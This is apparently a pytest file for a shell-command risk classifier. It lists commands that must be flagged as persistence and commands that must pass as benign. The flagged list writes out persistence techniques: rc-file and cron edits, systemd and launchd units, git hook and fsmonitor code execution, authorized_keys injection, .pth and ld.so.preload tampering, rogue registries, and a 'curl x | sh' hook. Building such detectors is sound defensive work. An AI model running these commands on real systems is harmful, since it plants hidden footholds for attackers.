from __future__ import annotations

import pytest

from tests.analysis.risk._table import check_benign, check_dangerous

DANGEROUS = [
    ("echo 'set runtimepath+=/tmp/x' >> ~/.vimrc", "RF-PERS-002"),
    ("cat >> ~/.config/nvim/init.lua <<'EOF'\nos.execute('id')\nEOF", "RF-PERS-002"),
    ("printf 'set-hook -g session-created \"run x\"' >> ~/.tmux.conf", "RF-PERS-002"),
    ("echo 'proxy = http://x:3128' > ~/.curlrc", "RF-PERS-002"),
    ("echo 'eval \"$(curl -s x)\"' > .envrc", "RF-PERS-002"),
    ("cp hooks/pre-push .git/hooks/", "RF-PERS-005"),
    ("chmod 755 .git/hooks/post-checkout", "RF-PERS-005"),
    ("echo '//registry.example/:_authToken=x' >> ~/.npmrc", "RF-PERS-009"),
    ("cat > ~/.pip/pip.conf <<'EOF'\n[global]\nindex-url = http://10.0.0.5/simple\nEOF", "RF-PERS-009"),
    ("npm config set registry http://10.0.0.5:4873/", "RF-PERS-009"),
    ("yarn config set npmRegistryServer https://mirror.example", "RF-PERS-009"),
    ("pip3 config set global.extra-index-url https://pkgs.example/simple", "RF-PERS-009"),
    ("tee ~/.cargo/config.toml < mirror.toml", "RF-PERS-009"),
    ('npm pkg set scripts.preinstall="node x.js"', "RF-PERS-010"),
    ("pnpm pkg set scripts.prepare=./setup.sh", "RF-PERS-010"),
    ("direnv allow .", "RF-PERS-010"),
    ("loginctl enable-linger dev", "RF-PERS-010"),
    ("kubectl create cronjob sync --image=busybox --schedule='0 * * * *' -- date", "RF-PERS-010"),
    ("cp /tmp/t.json .vscode/tasks.json", "RF-PERS-010"),
    ("echo '{}' > .devcontainer/devcontainer.json", "RF-PERS-010"),
    ("python3 -c \"open('/usr/lib/python3/dist-packages/x.pth','w').write('import os')\"", "RF-PERS-007"),
    ("echo 'nameserver 1.1.1.1' > /etc/resolv.conf", "RF-PERS-001"),
    ("echo '127.0.0.1 x' | sudo tee -a /etc/hosts", "RF-PERS-001"),
    ("sudo cp my.conf /etc/nginx/nginx.conf", "RF-PERS-001"),
    ("sed -i 's/a/b/' /etc/environment", "RF-PERS-001"),
    ("echo 'alias ls=evil' >> ~/.bashrc", "RF-PERS-002"),
    ("echo 'export PATH=/tmp:$PATH' >> $HOME/.profile", "RF-PERS-002"),
    ("cat payload >> ~/.zshrc", "RF-PERS-002"),
    ("cp x.fish ~/.config/fish/conf.d/x.fish", "RF-PERS-002"),
    ("ln -sf /tmp/evil ~/.bash_profile", "RF-PERS-002"),
    ("echo x | sudo tee /etc/profile.d/x.sh", "RF-PERS-002"),
    ("crontab jobs.txt", "RF-PERS-003"),
    ("(crontab -l; echo '* * * * * /tmp/x') | crontab -", "RF-PERS-003"),
    ("echo '* * * * * root /tmp/x' > /etc/cron.d/x", "RF-PERS-003"),
    ("echo /tmp/x | at now + 1 minute", "RF-PERS-003"),
    ("systemctl --user enable evil.service", "RF-PERS-004"),
    ("sudo systemctl enable --now x", "RF-PERS-004"),
    ("cp x.service ~/.config/systemd/user/", "RF-PERS-004"),
    ("launchctl load ~/Library/LaunchAgents/x.plist", "RF-PERS-004"),
    ("cp x.plist ~/Library/LaunchAgents/x.plist", "RF-PERS-004"),
    ("echo 'curl x | sh' > .git/hooks/pre-commit", "RF-PERS-005"),
    ("cp hook .git/hooks/post-checkout", "RF-PERS-005"),
    ("git config core.hooksPath /tmp/hooks", "RF-PERS-005"),
    ("git config --global core.fsmonitor 'sh /tmp/x'", "RF-PERS-005"),
    ("git config core.sshCommand 'ssh -o ProxyCommand=x'", "RF-PERS-005"),
    ("git -c core.fsmonitor='touch /tmp/x' status", "RF-PERS-005"),
    ("git config --global alias.st '!sh /tmp/x'", "RF-PERS-005"),
    ("git config filter.x.clean 'sh /tmp/x'", "RF-PERS-005"),
    ("echo ssh-ed25519 AAAA me >> ~/.ssh/authorized_keys", "RF-PERS-006"),
    ("cat key.pub >> /root/.ssh/authorized_keys", "RF-PERS-006"),
    ("echo 'Host *\n ProxyCommand x' >> ~/.ssh/config", "RF-PERS-006"),
    ("echo 'import os' > .venv/lib/python3.12/site-packages/x.pth", "RF-PERS-007"),
    ("cp evil.py $(python -c 'import site') /sitecustomize.py", "RF-PERS-007"),
    ("echo /tmp/x.so > /etc/ld.so.preload", "RF-PERS-008"),
]

BENIGN = [
    "cat ~/.vimrc",
    "npm config get registry",
    "pip config list",
    'npm pkg set scripts.lint="eslint ."',
    "npm pkg set engines.node='>=20'",
    "npm pkg delete scripts.prepublish",
    'eval "$(direnv export bash)"',
    "direnv status",
    "loginctl show-user dev",
    "kubectl get cronjobs",
    "cat .vscode/settings.json",
    "ls .git/hooks",
    "python3 -c \"import site; print(site.getsitepackages())\"",
    "cat /etc/hosts",
    "grep -r nginx /etc/nginx",
    "cat ~/.bashrc",
    "source ~/.bashrc",
    "echo $PATH",
    "crontab -l",
    "systemctl status nginx",
    "systemctl --user restart app",
    "launchctl list",
    "ls .git/hooks",
    "cat .git/hooks/pre-commit.sample",
    "git config user.name 'Me'",
    "git config --global core.autocrlf input",
    "git config --get core.hooksPath",
    "git -c user.email=x@y.z commit -m msg",
    "cat ~/.ssh/authorized_keys",
    "ssh-keygen -t ed25519 -f ./deploy_key -N ''",
    "npx husky install",
    "echo 'done' >> build.log",
    "cp config.example.toml config.toml",
    "pip install -e .",
    "python -c 'import site; print(site.getsitepackages())'",
    "sed -i 's/a/b/' src/app.py",
    "tee out.txt < in.txt",
]


@pytest.mark.parametrize(("command", "rule_id"), DANGEROUS)
def test_dangerous(command: str, rule_id: str) -> None:
    check_dangerous(command, rule_id, "persistence")


@pytest.mark.parametrize("command", BENIGN)
def test_benign(command: str) -> None:
    check_benign(command, "persistence")


def test_table_sizes() -> None:
    assert len(DANGEROUS) >= 15 and len(BENIGN) >= 15
